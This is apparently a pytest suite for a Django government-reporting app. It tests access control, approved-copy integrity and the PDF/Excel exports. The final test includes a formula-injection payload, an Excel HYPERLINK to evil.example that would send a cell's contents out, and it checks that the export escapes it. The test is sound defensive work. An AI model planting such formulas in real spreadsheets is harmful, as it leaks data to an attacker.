"""Report PDFs in the browser: who may download what, drafts vs the copy kept at approval, render jobs."""

from __future__ import annotations

import hashlib
import subprocess

import pytest
from django.contrib.auth import get_user_model

from indicators.models import PeriodState, Progress
from reports.models import ApprovedReport, JobStatus, ReportJob
from tests.factories import accept_earlier_quarters
from workflow.transitions import period_transition

ANNUAL = "/plans/mofa/2022-23/reports/annual.pdf"


@pytest.fixture
def inline_jobs(settings):
    settings.REPORT_JOBS_MODE = "inline"


def user(name: str):
    return get_user_model().objects.get(username=name)


def move(plan, quarter: int, *actions: str) -> None:
    actors = {
        "submit": "mofa.officer",
        "approve": "mofa.cio",
        "send": "mofa.cio",
        "accept": "cabinet.reviewer",
    }
    accept_earlier_quarters(plan, quarter, only_open=True)
    for action in actions:
        period = plan.periods.get(quarter=quarter)
        period_transition(
            period=period, action=action, user=user(actors[action]), expected_version=period.version
        )


def body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def pdf_text(data: bytes, tmp_path, *, page: int | None = None) -> str:
    path = tmp_path / "r.pdf"
    path.write_bytes(data)
    pages = ["-f", str(page), "-l", str(page)] if page else []
    command = ["pdftotext", *pages, str(path), "-"]
    return subprocess.run(command, capture_output=True, text=True, check=True).stdout


@pytest.mark.django_db
def test_report_pdf_sends_anonymous_visitors_to_sign_in(client):
    """No PDF without signing in."""
    response = client.get(ANNUAL)
    assert response.status_code == 302 and response["Location"].startswith("/accounts/login/")


def test_other_office_gets_404_for_the_report(client, demo):
    """An officer of another ministry cannot learn that MoFA's report exists."""
    client.force_login(user("msw.officer"))
    assert client.get(ANNUAL).status_code == 404


def test_unknown_report_name_is_404(client, demo):
    """Only the stable names of DESIGN.md §9 exist."""
    client.force_login(user("mofa.officer"))
    assert client.get("/plans/mofa/2022-23/reports/quarterly-5.pdf").status_code == 404
    assert client.get("/plans/mofa/2022-23/reports/everything.pdf").status_code == 404


def test_member_gets_a_draft_with_the_draft_mark(client, demo, tmp_path):
    """Before approval the report is rendered on request and carries the visible draft mark."""
    client.force_login(user("mofa.officer"))
    response = client.get(ANNUAL)
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    data = body(response)
    assert data.startswith(b"%PDF-")
    assert "খসড়া" in pdf_text(data, tmp_path, page=1)  # the mark on the cover page
    assert response["X-Report-SHA256"] == hashlib.sha256(data).hexdigest()


def test_reviewer_cannot_see_a_draft_report(client, demo):
    """The parent office's reviewer gets nothing before the period was sent (DESIGN.md §4: never drafts)."""
    client.force_login(user("cabinet.reviewer"))
    assert client.get(ANNUAL).status_code == 404


def test_approval_keeps_one_copy_and_downloads_return_exactly_its_bytes(client, demo, inline_jobs, tmp_path):
    """At approval the reports are rendered once with their SHA-256; every download returns those bytes."""
    move(demo, 4, "submit", "approve")
    period = demo.periods.get(quarter=4)
    kept = {r.kind: r for r in ApprovedReport.objects.filter(approval__period=period)}
    assert set(kept) == {"quarterly", "annual", "cover-letter"}
    annual = kept["annual"]
    stored = annual.file.open("rb").read()
    assert hashlib.sha256(stored).hexdigest() == annual.sha256

    client.force_login(user("mofa.cio"))
    first, second = body(client.get(ANNUAL)), body(client.get(ANNUAL))
    assert first == second == stored
    text = pdf_text(first, tmp_path)
    assert "খসড়া" not in pdf_text(first, tmp_path, page=1)
    assert "৪৪.৭৭" in text and "৪৬.৬৪" in text
    # The memo serial was taken at approval (the demo's last one was ৬৮, as in seed 000).
    assert "১৯.০০.০০০০.১৭৫.৪২.০০১.২৩-৬৯" in text


def test_approved_report_gone_from_storage_is_a_404_not_a_server_error(client, demo, inline_jobs):
    """A stored PDF deleted behind the application's back answers 404 with a Bangla reason (and a log line
    for the administrator; verify_reports names it), never a 500."""
    move(demo, 4, "submit", "approve")
    annual = ApprovedReport.objects.get(
        approval__period__quarter=4, approval__period__plan=demo, kind="annual"
    )
    annual.file.storage.delete(annual.file.name)
    client.force_login(user("mofa.cio"))
    response = client.get(ANNUAL)
    assert response.status_code == 404


def test_approved_report_does_not_change_when_the_period_is_rendered_again(client, demo, inline_jobs):
    """A second rendering request after approval returns the stored copy, never a new one."""
    move(demo, 4, "submit", "approve")
    sha = ApprovedReport.objects.get(
        approval__period__quarter=4, approval__period__plan=demo, kind="annual"
    ).sha256
    client.force_login(user("mofa.officer"))
    response = client.get(ANNUAL)
    assert response["X-Report-SHA256"] == sha
    assert ApprovedReport.objects.filter(approval__period__plan=demo, kind="annual").count() == 1


def test_reviewer_downloads_the_report_once_sent(client, demo, inline_jobs):
    """From "sent" on, the parent office's reviewer gets the approved copy."""
    move(demo, 4, "submit", "approve")
    client.force_login(user("cabinet.reviewer"))
    assert client.get(ANNUAL).status_code == 404  # approved, not yet sent
    move(demo, 4, "send")
    response = client.get(ANNUAL)
    assert response.status_code == 200
    sha = ApprovedReport.objects.get(
        approval__period__quarter=4, approval__period__plan=demo, kind="annual"
    ).sha256
    assert hashlib.sha256(body(response)).hexdigest() == sha


def test_inbox_links_the_sent_report_with_its_sha(client, demo, inline_jobs):
    """The reviewer inbox offers the PDF of a sent period and shows the start of its SHA-256."""
    move(demo, 4, "submit", "approve", "send")
    sha = ApprovedReport.objects.get(
        approval__period__quarter=4, approval__period__plan=demo, kind="annual"
    ).sha256
    client.force_login(user("cabinet.reviewer"))
    page = client.get("/review/").content.decode()
    assert ANNUAL in page
    assert sha[:12] in page


def test_approved_period_still_rendering_answers_503_not_a_second_copy(client, demo):
    """With the approval jobs still queued, the download says so instead of rendering another copy."""
    move(demo, 4, "submit", "approve")  # jobs queued, not run (REPORT_JOBS_MODE = "worker")
    assert demo.periods.get(quarter=4).state == PeriodState.APPROVED
    client.force_login(user("mofa.cio"))
    response = client.get(ANNUAL)
    assert response.status_code == 503
    assert "তৈরি হচ্ছে" in response.content.decode()


def test_draft_job_runs_and_its_pdf_is_downloadable_by_members_only(client, demo, inline_jobs):
    """A draft job renders the report; members download it; other offices get 404."""
    client.force_login(user("mofa.officer"))
    response = client.post("/plans/mofa/2022-23/reports/quarterly-1/draft/")
    job = ReportJob.objects.get()
    assert response.status_code == 302
    assert (job.status, job.progress, job.kind, job.quarter) == (JobStatus.DONE, 100, "quarterly", 1)
    page = client.get(f"/reports/jobs/{job.pk}/").content.decode()
    assert f"/reports/jobs/{job.pk}/pdf/" in page
    pdf = client.get(f"/reports/jobs/{job.pk}/pdf/")
    assert hashlib.sha256(body(pdf)).hexdigest() == job.sha256
    client.force_login(user("msw.officer"))
    assert client.get(f"/reports/jobs/{job.pk}/").status_code == 404
    assert client.get(f"/reports/jobs/{job.pk}/pdf/").status_code == 404


def test_queued_job_page_polls_its_progress(client, demo):
    """While a job runs, its fragment asks htmx to poll again and shows a progress bar."""
    client.force_login(user("mofa.officer"))
    client.post("/plans/mofa/2022-23/reports/annual/draft/")  # queued: REPORT_JOBS_MODE = "worker"
    job = ReportJob.objects.get()
    fragment = client.get(f"/reports/jobs/{job.pk}/", HTTP_HX_REQUEST="true").content.decode()
    assert "hx-trigger" in fragment and "<progress" in fragment


def test_reviewer_cannot_start_draft_jobs(client, demo):
    """Drafting is for the office's members."""
    client.force_login(user("cabinet.reviewer"))
    assert client.post("/plans/mofa/2022-23/reports/annual/draft/").status_code == 404
    assert not ReportJob.objects.exists()


def test_plan_page_lists_reports_and_draft_buttons(client, demo):
    """The plan page has the reports panel with a draft button per report."""
    client.force_login(user("mofa.officer"))
    page = client.get("/plans/mofa/2022-23/").content.decode()
    assert 'id="reports"' in page
    assert "/plans/mofa/2022-23/reports/annual/draft/" in page


def test_assessment_table_as_xlsx_has_the_pdf_columns_and_totals(client, demo):
    """The plan page's Excel export: the table's columns, one row per indicator, merged area cells, totals."""
    import io

    from openpyxl import load_workbook

    client.force_login(user("mofa.officer"))
    response = client.get("/plans/mofa/2022-23/reports/annual-table.xlsx")
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment;")
    sheet = load_workbook(io.BytesIO(response.content)).active
    headers = [cell.value for cell in sheet[2]]
    assert headers[:7] == [
        "ক্রম",
        "কর্মসম্পাদন ক্ষেত্র",
        "মান",
        "কার্যক্রম",
        "কর্মসম্পাদন সূচক",
        "একক",
        "কর্মসম্পাদন সূচকের মান",
    ]
    assert headers[-2:] == ["অর্জিত নম্বর", "মন্তব্য ও প্রমাণক"]
    codes = [row[4].value.split()[0] for row in sheet.iter_rows(min_row=4, max_row=15)]
    assert codes[0] == "[১.১.১]" and codes[-1] == "[২.২.৫]" and len(codes) == 12
    assert any(str(rng).startswith("B4:") for rng in sheet.merged_cells.ranges)  # area cell spans its rows
    values = [cell.value for row in sheet.iter_rows() for cell in row if cell.value]
    assert "৪৪.৭৭" in values and any("৪৬.৬৪" in str(v) for v in values)


def test_assessment_table_xlsx_follows_report_visibility(client, demo):
    """Other offices get 404; the reviewer only once the period was sent."""
    url = "/plans/mofa/2022-23/reports/annual-table.xlsx"
    client.force_login(user("msw.officer"))
    assert client.get(url).status_code == 404
    client.force_login(user("cabinet.reviewer"))
    assert client.get(url).status_code == 404


def test_assessment_table_xlsx_gives_the_reviewer_a_formula_like_remark_as_text(client, demo, inline_jobs):
    """OWASP "CSV Injection": a remark beginning with "=" reaches the reviewer's table as a text cell with the
    remark as written, not as a formula their Excel would run."""
    import io

    from openpyxl import load_workbook

    remark = '=HYPERLINK("http://evil.example/?x="&A1,"বিস্তারিত")'
    Progress.objects.filter(indicator__plan=demo, indicator__code="1.3.1", quarter=1).update(remark=remark)
    move(demo, 1, "submit", "approve", "send")
    client.force_login(user("cabinet.reviewer"))
    response = client.get("/plans/mofa/2022-23/reports/quarterly-1-table.xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    row = next(row for row in sheet.iter_rows(min_row=4) if str(row[4].value).startswith("[১.৩.১]"))
    remark_cell = row[-1]
    assert (remark_cell.data_type, remark_cell.value) == ("s", remark)
    assert not [cell.coordinate for line in sheet.iter_rows() for cell in line if cell.data_type == "f"]
